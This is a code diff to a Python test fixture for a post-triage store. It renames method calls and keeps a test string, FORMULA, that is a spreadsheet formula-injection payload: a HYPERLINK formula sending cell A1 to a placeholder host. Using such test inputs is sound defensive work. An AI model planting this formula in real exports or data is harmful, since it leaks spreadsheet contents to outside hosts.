@@ -21,11 +21,11 @@ FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik") +62 @admin'
 def corrected(tmp_path: Path, db_url: str) -> str:
     fill_posts(tmp_path, db_url, texts=[FORMULA, "Banjir di Bekasi"])
     store = open_store(db_url)
-    flagged = store.recent_posts("flagged", 10)
+    flagged = store.posts.recent("flagged", 10)
     hostile = next(s for s in flagged if s.post.text == FORMULA)
-    store.add_corrections(hostile.id, dict.fromkeys(hostile.post.flags, 0), "sari")
+    store.triage.add_corrections(hostile.id, dict.fromkeys(hostile.post.flags, 0), "sari")
     flood = next(s for s in flagged if "Banjir" in s.post.text)
-    store.add_corrections(flood.id, {"disaster": 1}, "sari")
+    store.triage.add_corrections(flood.id, {"disaster": 1}, "sari")
     store.close()
     return db_url
 
